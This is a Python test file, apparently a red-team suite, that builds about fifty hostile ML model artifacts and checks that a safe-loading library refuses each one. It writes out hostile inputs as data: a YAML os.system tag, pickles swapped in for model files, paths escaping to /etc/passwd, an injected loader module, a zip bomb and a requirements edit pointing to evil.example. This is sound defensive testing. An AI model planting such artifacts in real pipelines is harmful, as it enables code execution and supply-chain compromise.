"""The red-team suite: hostile artifacts, each loaded in a separate worker process.

For every artifact the worker must report a SafeFlavorError subclass with a useful message; the
process must not die (no signal) and no marker file may appear. The attacker controls every byte
of the directory, MLmodel and digests included. The list is mirrored in docs/threat-model.md.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import numpy as np
import pytest
import yaml
from hostile import edit_mlmodel, pickle_that_touches, replace_payload, skops_calling

import mlflow_safeflavor as sf


@dataclass
class Hostile:
    name: str
    build: Callable[[Path, Path, dict], Path]  # (workdir, marker, keys) -> model dir
    error: str  # expected exception class name
    message: str  # substring of the message
    loader: str = "load_model"
    kwargs: dict = field(default_factory=dict)
    env: dict = field(default_factory=dict)
    predict_on: str | None = None  # a zoo case whose X the worker predicts on if the model loads


def _saved(case_name: str):
    def make(work: Path, cases) -> Path:
        path = work / "model"
        sf.save_model(cases[case_name].model, path)
        return path

    return make


# ------------------------------------------------------------------------------- builders


def trust_widened(module: str, name: str, declared: list[str]):
    def build(work, marker, ctx):
        path = _saved("sk_ridge")(work, ctx["cases"])
        replace_payload(path, "model.skops", skops_calling(module, name))
        edit_mlmodel(path, lambda s: s.__setitem__("trusted_types", declared))
        return path

    return build


def swapped_for_pickle(case_name: str, fname: str):
    def build(work, marker, ctx):
        path = _saved(case_name)(work, ctx["cases"])
        replace_payload(path, fname, pickle_that_touches(marker))
        return path

    return build


def mlmodel_edit(case_name: str, edit: Callable[[dict], None]):
    def build(work, marker, ctx):
        path = _saved(case_name)(work, ctx["cases"])
        edit_mlmodel(path, edit)
        return path

    return build


def raw_mlmodel(text_fn: Callable[[Path], str]):
    def build(work, marker, ctx):
        path = _saved("sk_ridge")(work, ctx["cases"])
        (path / "MLmodel").write_text(text_fn(marker))
        return path

    return build


def symlinked_payload(work, marker, ctx):
    path = _saved("sk_ridge")(work, ctx["cases"])
    outside = work / "outside.skops"
    shutil.move(path / "model.skops", outside)
    os.symlink(outside, path / "model.skops")
    return path


def hardlinked_payload(work, marker, ctx):
    path = _saved("sk_ridge")(work, ctx["cases"])
    os.link(path / "model.skops", work / "other-name.skops")
    return path


def fifo_payload(work, marker, ctx):
    path = _saved("sk_ridge")(work, ctx["cases"])
    (path / "model.skops").unlink()
    os.mkfifo(path / "model.skops")
    return path


def flipped_byte(work, marker, ctx):
    path = _saved("xgb_clf")(work, ctx["cases"])
    data = bytearray((path / "model.ubj").read_bytes())
    data[100] ^= 0x40
    (path / "model.ubj").write_bytes(bytes(data))
    return path


def oversized_mlmodel(work, marker, ctx):
    path = _saved("sk_ridge")(work, ctx["cases"])
    with open(path / "MLmodel", "a") as fh:
        fh.write("# " + "x" * (2 * 1024**2) + "\n")
    return path


def signed(case_name: str, after: Callable[[Path, Path], None] | None = None, key: str = "good"):
    def build(work, marker, ctx):
        path = _saved(case_name)(work, ctx["cases"])
        sf.sign_model(path, ctx["keys"][key][0])
        if after:
            after(path, marker)
        return path

    return build


def _add_file(rel: str, content: str = "x"):
    def after(path, marker):
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(content)

    return after


def _edit_requirements(path, marker):
    with open(path / "requirements.txt", "a") as fh:
        fh.write("\n--index-url https://evil.example/simple\n")


def _edit_payload_and_digest(path, marker):
    replace_payload(path, "model.skops", skops_calling("builtins", "open"))


def loader_module_swap(work, marker, ctx):
    """MLmodel names our own evil module, shipped in code/ — what mlflow.pyfunc would import."""
    path = _saved("sk_ridge")(work, ctx["cases"])
    (path / "code").mkdir()
    (path / "code" / "evil_loader.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n" "def _load_pyfunc(path, model_config=None):\n    raise SystemExit(3)\n"
    )
    doc = yaml.safe_load((path / "MLmodel").read_text())
    doc["flavors"]["python_function"]["loader_module"] = "evil_loader"
    doc["flavors"]["python_function"]["code"] = "code"
    (path / "MLmodel").write_text(yaml.safe_dump(doc))
    return path


def code_dir_only(work, marker, ctx):
    path = _saved("sk_ridge")(work, ctx["cases"])
    (path / "code").mkdir()
    (path / "code" / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    return path


def xgb_json_edit(edit: Callable[[dict], None]):
    def build(work, marker, ctx):
        path = work / "model"
        sf.save_model(ctx["cases"]["xgb_clf"].model, path, model_format="json")
        doc = json.loads((path / "model.json").read_text())
        edit(doc["learner"]["gradient_booster"]["model"]["trees"][0])
        replace_payload(path, "model.json", json.dumps(doc).encode())
        return path

    return build


def _child_out_of_range(tree):
    tree["left_children"][0] = 10**6


def _cycle(tree):
    tree["left_children"][1] = 0 if tree["left_children"][1] != -1 else tree["left_children"][1]
    tree["left_children"][0], tree["right_children"][0] = 1, 2
    first_inner = next(i for i, c in enumerate(tree["left_children"]) if i > 0 and c != -1)
    tree["left_children"][first_inner] = 0


def lgb_text_edit(edit: Callable[[str], str]):
    def build(work, marker, ctx):
        path = _saved("lgb_reg")(work, ctx["cases"])
        text = (path / "model.txt").read_text()
        replace_payload(path, "model.txt", edit(text).encode())
        return path

    return build


def _tree_sizes_wrong(text: str) -> str:
    lines = text.splitlines(keepends=True)
    for i, line in enumerate(lines):
        if line.startswith("tree_sizes="):
            sizes = line.strip().split("=", 1)[1].split()
            sizes[0] = str(int(sizes[0]) * 40)
            lines[i] = "tree_sizes=" + " ".join(sizes) + "\n"
    return "".join(lines)


def _lgb_first_value(key: str, value: str):
    """Replace the first value of ``key=`` in tree 0 by a same-width value, so tree_sizes stays true."""

    def edit(text: str) -> str:
        lines = text.splitlines(keepends=True)
        for i, line in enumerate(lines):
            if line.startswith(key + "="):
                vals = line[len(key) + 1 :].rstrip("\n").split(" ")
                assert len(vals[0]) == len(value), (vals[0], value)
                vals[0] = value
                lines[i] = key + "=" + " ".join(vals) + "\n"
                break
        return "".join(lines)

    return edit


def skops_member_edit(case_name: str, edit: Callable[[zipfile.ZipFile, zipfile.ZipFile], None]):
    def build(work, marker, ctx):
        if case_name.startswith("format1:"):  # trees inside model.skops exist only in format-1 models
            path = work / "model"
            shutil.copytree(Path(__file__).parent / "data" / "format1" / case_name.split(":", 1)[1], path)
        else:
            path = _saved(case_name)(work, ctx["cases"])
        src = zipfile.ZipFile(io.BytesIO((path / "model.skops").read_bytes()))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as dst:
            edit(src, dst)
        replace_payload(path, "model.skops", out.getvalue())
        return path

    return build


def _copy(src, dst, skip=()):
    for info in src.infolist():
        if info.filename not in skip:
            dst.writestr(info.filename, src.read(info.filename))


def _extra_member(src, dst):
    _copy(src, dst)
    dst.writestr("deadbeef.bin", pickle_that_touches(Path("/nonexistent")))


def _duplicate_member(src, dst):
    _copy(src, dst)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dst.writestr("schema.json", src.read("schema.json"))


def _npy_edit(field_names: tuple[str, ...], value: int):
    def edit(src, dst):
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith(".npy"):
                arr = np.load(io.BytesIO(data), allow_pickle=False)
                if arr.dtype.names and field_names[0] in arr.dtype.names:
                    arr = arr.copy()
                    inner = np.flatnonzero(arr[field_names[1]] != field_names[2]) if len(field_names) > 2 else [0]
                    arr[field_names[0]][inner[0]] = value
                    buf = io.BytesIO()
                    np.save(buf, arr, allow_pickle=False)
                    data = buf.getvalue()
            dst.writestr(info.filename, data)

    return edit


def _object_npy(src, dst):
    for info in src.infolist():
        data = src.read(info.filename)
        if info.filename.endswith(".npy"):
            buf = io.BytesIO()
            np.save(buf, np.array([{"x": 1}], dtype=object), allow_pickle=True)
            data = buf.getvalue()
        dst.writestr(info.filename, data)


def _deep_schema(src, dst):
    """A schema nested 5000 levels deep (written as text: json.dumps itself cannot go that deep)."""
    schema = json.loads(src.read("schema.json"))
    schema["content"]["content"]["extra"] = "@DEEP@"
    level = '{"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": ['
    deep = level * 5000 + "]}" * 5000
    _copy(src, dst, skip=("schema.json",))
    dst.writestr("schema.json", json.dumps(schema).replace('"@DEEP@"', deep))


def _bad_protocol(src, dst):
    schema = json.loads(src.read("schema.json"))
    schema["protocol"] = 99
    _copy(src, dst, skip=("schema.json",))
    dst.writestr("schema.json", json.dumps(schema))


def zip_bomb(work, marker, ctx):
    path = _saved("sk_ridge")(work, ctx["cases"])
    src = zipfile.ZipFile(io.BytesIO((path / "model.skops").read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst:
        _copy(src, dst)
        dst.writestr("0000bomb.bin", b"\0" * (64 * 1024**2))
    data = out.getvalue()
    replace_payload(path, "model.skops", data)
    return path


def catboost_truncated(work, marker, ctx):
    path = _saved("cb_clf_cat")(work, ctx["cases"])
    data = (path / "model.cbm").read_bytes()
    replace_payload(path, "model.cbm", data[: len(data) // 2])
    return path


def component_edit(edit: Callable[[dict], None]):
    def build(work, marker, ctx):
        path = _saved("pipe_ct_xgb")(work, ctx["cases"])
        edit_mlmodel(path, lambda s: edit(s["components"][0]))
        return path

    return build


HOSTILE = [
    Hostile("trust-widened-builtins.open", trust_widened("builtins", "open", ["builtins.open"]), "UntrustedTypesError", "hard-deny"),
    Hostile("trust-widened-builtins.open-operator-allows-too", trust_widened("builtins", "open", ["builtins.open"]), "UntrustedTypesError", "hard-deny",
            kwargs={"trusted_types": ["builtins.open"]}, env={"MLFLOW_SAFEFLAVOR_TRUSTED_TYPES": "builtins.open"}),
    Hostile("trust-widened-posix.system", trust_widened("posix", "system", ["posix.system"]), "UntrustedTypesError", "posix.system"),
    Hostile("trust-widened-operator.methodcaller", trust_widened("operator", "methodcaller", ["operator.methodcaller"]), "UntrustedTypesError", "operator.methodcaller"),
    Hostile("trust-widened-operator.attrgetter", trust_widened("operator", "attrgetter", ["operator.attrgetter"]), "UntrustedTypesError", "operator.attrgetter"),
    Hostile("trust-widened-skops.io.loads", trust_widened("skops.io", "loads", ["skops.io.loads"]), "UntrustedTypesError", "skops.io.loads"),
    Hostile("trust-widened-builtins.eval-via-pyfunc", trust_widened("builtins", "eval", ["builtins.eval"]), "UntrustedTypesError", "builtins.eval", loader="mlflow.pyfunc"),
    Hostile("payload-needs-undeclared-io.open", trust_widened("io", "open", []), "UntrustedTypesError", "not declared"),
    Hostile("skops-swapped-for-pickle", swapped_for_pickle("sk_rf_clf", "model.skops"), "MalformedArtifactError", "not a readable zip"),
    Hostile("ubj-swapped-for-pickle", swapped_for_pickle("xgb_clf", "model.ubj"), "MalformedArtifactError", "XGBoost"),
    Hostile("lgb-text-swapped-for-pickle", swapped_for_pickle("lgb_clf", "model.txt"), "MalformedArtifactError", "model.txt"),
    Hostile("cbm-swapped-for-pickle", swapped_for_pickle("cb_clf_cat", "model.cbm"), "MalformedArtifactError", "CatBoost"),
    Hostile("wrapper-json-swapped-for-pickle", swapped_for_pickle("xgb_clf", "wrapper.json"), "MalformedArtifactError", "wrapper.json"),
    Hostile("model-class-os.system", mlmodel_edit("xgb_clf", lambda s: s.__setitem__("model_class", "os.system")), "MalformedArtifactError", "model_class"),
    Hostile("model-class-unknown-key", mlmodel_edit("lgb_clf", lambda s: s.__setitem__("model_class", "system")), "MalformedArtifactError", "not a known lightgbm model class"),
    Hostile("codec-pickle", mlmodel_edit("sk_ridge", lambda s: s.__setitem__("codec", "pickle")), "MalformedArtifactError", "unknown codec"),
    Hostile("codec-module-path", mlmodel_edit("sk_ridge", lambda s: s.__setitem__("codec", "os.path")), "MalformedArtifactError", "unknown codec"),
    Hostile("path-escape-dotdot", mlmodel_edit("sk_ridge", lambda s: s.__setitem__("files", {"../../etc/passwd": "sha256:" + "0" * 64})), "IntegrityError", "not a plain relative"),
    Hostile("path-escape-absolute", mlmodel_edit("sk_ridge", lambda s: s.__setitem__("files", {"/etc/passwd": "sha256:" + "0" * 64})), "IntegrityError", "not a plain relative"),
    Hostile("symlinked-payload", symlinked_payload, "IntegrityError", "symlink"),
    Hostile("hard-linked-payload", hardlinked_payload, "IntegrityError", "hard links"),
    Hostile("fifo-payload", fifo_payload, "IntegrityError", "not a regular file"),
    Hostile("digest-mismatch", flipped_byte, "IntegrityError", "digest mismatch"),
    Hostile("digest-mismatch-via-pyfunc", flipped_byte, "IntegrityError", "digest mismatch", loader="mlflow.pyfunc"),
    Hostile("mlmodel-python-yaml-tag", raw_mlmodel(lambda m: f"flavors: !!python/object/apply:os.system ['touch {m}']\n"), "MalformedArtifactError", "not valid YAML"),
    Hostile("mlmodel-oversized", oversized_mlmodel, "IntegrityError", "cap"),
    Hostile("mlmodel-format-version-4", mlmodel_edit("sk_ridge", lambda s: s.__setitem__("format_version", 4)), "MalformedArtifactError", "format_version"),
    Hostile("unsigned-but-key-required", lambda w, m, c: _saved("sk_ridge")(w, c["cases"]), "SignatureError", "model.sig is missing", kwargs={"public_key": "@good"}),
    Hostile("signed-by-another-key", signed("sk_ridge", key="other"), "SignatureError", "does not verify", kwargs={"public_key": "@good"}),
    Hostile("signed-then-extra-github-file", signed("sk_ridge", _add_file(".github/workflows/x.yml")), "SignatureError", ".github/workflows/x.yml", env={"MLFLOW_SAFEFLAVOR_PUBLIC_KEY": "@good"}),
    Hostile("signed-then-extra-gitattributes", signed("sk_ridge", _add_file(".gitattributes")), "SignatureError", ".gitattributes", kwargs={"public_key": "@good"}),
    Hostile("signed-then-requirements-edited", signed("sk_ridge", _edit_requirements), "SignatureError", "requirements.txt", kwargs={"public_key": "@good"}),
    Hostile("signed-then-payload-and-digest-rewritten", signed("sk_ridge", _edit_payload_and_digest), "SignatureError", "differs from the signed", loader="load_pyfunc", kwargs={"public_key": "@good"}),
    Hostile("signature-file-garbage", signed("sk_ridge", lambda p, m: (p / "model.sig").write_text("{}")), "SignatureError", "model.sig", kwargs={"public_key": "@good"}),
    Hostile("loader-module-swap-with-code", loader_module_swap, "MalformedArtifactError", "loader_module"),
    Hostile("code-dir-added", code_dir_only, "MalformedArtifactError", "code/", loader="load_pyfunc"),
    Hostile("xgboost-json-child-out-of-range", xgb_json_edit(_child_out_of_range), "MalformedArtifactError", "model.json", predict_on="xgb_clf"),
    Hostile("xgboost-json-cycle", xgb_json_edit(_cycle), "MalformedArtifactError", "model.json", predict_on="xgb_clf"),
    Hostile("lightgbm-wrong-tree-sizes", lgb_text_edit(_tree_sizes_wrong), "MalformedArtifactError", "tree_sizes", predict_on="lgb_reg"),
    Hostile("lightgbm-child-out-of-range", lgb_text_edit(_lgb_first_value("left_child", "9")), "MalformedArtifactError", "child", predict_on="lgb_reg"),
    Hostile("lightgbm-feature-out-of-range", lgb_text_edit(_lgb_first_value("split_feature", "9")), "MalformedArtifactError", "feature", predict_on="lgb_reg"),
    Hostile("sklearn-tree-left-child-out-of-range", skops_member_edit("format1:rf_clf", _npy_edit(("left_child", "left_child", -1), 10**6)), "MalformedArtifactError", "child index"),
    Hostile("sklearn-tree-feature-out-of-range", skops_member_edit("format1:rf_clf", _npy_edit(("feature", "left_child", -1), 999)), "MalformedArtifactError", "feature index"),
    Hostile("hgb-predictor-child-out-of-range", skops_member_edit("format1:hgb_clf", _npy_edit(("left", "is_leaf", 1), 10**6)), "MalformedArtifactError", "child index"),
    Hostile("skops-unreferenced-member", skops_member_edit("sk_ridge", _extra_member), "MalformedArtifactError", "does not reference"),
    Hostile("skops-duplicate-member", skops_member_edit("sk_ridge", _duplicate_member), "MalformedArtifactError", "duplicate"),
    Hostile("skops-object-dtype-member", skops_member_edit("sk_ridge", _object_npy), "MalformedArtifactError", "object-dtype"),
    Hostile("skops-schema-too-deep", skops_member_edit("sk_ridge", _deep_schema), "MalformedArtifactError", "nests deeper"),
    Hostile("skops-unknown-protocol", skops_member_edit("sk_ridge", _bad_protocol), "MalformedArtifactError", "protocol"),
    Hostile("skops-zip-bomb", zip_bomb, "MalformedArtifactError", "zip bomb"),
    Hostile("catboost-truncated", catboost_truncated, "MalformedArtifactError", "CatBoost", predict_on="cb_clf_cat"),
    Hostile("component-codec-recursion", component_edit(lambda c: c.__setitem__("codec", "sklearn")), "MalformedArtifactError", "component"),
    Hostile("component-step-out-of-range", component_edit(lambda c: c.__setitem__("step", [7])), "MalformedArtifactError", "step"),
]


def _resolve(value, keys):
    if isinstance(value, str) and value.startswith("@"):
        return str(keys[value[1:]][1])
    if isinstance(value, list):
        return [_resolve(v, keys) for v in value]
    return value


def test_suite_is_at_least_25_artifacts():
    assert len(HOSTILE) >= 25 and len({h.name for h in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.name for h in HOSTILE])
def test_hostile_artifact_is_refused_in_a_separate_process(hostile, cases, keys, worker, tmp_path):
    marker = tmp_path / "marker"
    path = hostile.build(tmp_path, marker, {"cases": cases, "keys": keys})
    kwargs = {k: _resolve(v, keys) for k, v in hostile.kwargs.items()}
    env = {k: _resolve(v, keys) for k, v in hostile.env.items()}
    X = None
    if hostile.predict_on:
        data = cases[hostile.predict_on].X
        X = {"data": data.to_numpy().tolist(), "columns": list(data.columns)} if hasattr(data, "columns") else np.asarray(data).tolist()
    reply = worker.load(path, hostile.loader, kwargs=kwargs, env=env, X=X)
    assert reply["outcome"] == "refused", reply
    assert reply["type"] == hostile.error, reply
    assert hostile.message in reply["message"], reply["message"]
    assert str(path) in reply["message"] or "model.skops" in reply["message"], reply["message"]
    assert not marker.exists()
    # verify, inspect and the registry gate decide by the same steps: none may pass the artifact.
    for how in ("verify", "inspect", "gate"):
        decided = worker.load(path, how, kwargs=kwargs, env=env)
        assert decided["outcome"] == "decided" and decided["ok"] is False, (how, decided)
    assert not marker.exists()


def test_mlflow_pyfunc_follows_a_swapped_loader_module(cases, keys, tmp_path):
    """The documented limit (docs/threat-model.md): mlflow.pyfunc.load_model imports whatever
    loader_module MLmodel names, before any of our code runs. Only our loaders refuse this model."""
    import subprocess
    import sys

    marker = tmp_path / "marker"
    path = loader_module_swap(tmp_path, marker, {"cases": cases})
    code = f"import mlflow; mlflow.pyfunc.load_model({str(path)!r})"
    subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    assert marker.exists()
    marker.unlink()
    with pytest.raises(sf.MalformedArtifactError, match="loader_module"):
        sf.load_pyfunc(str(path))
    assert not marker.exists()
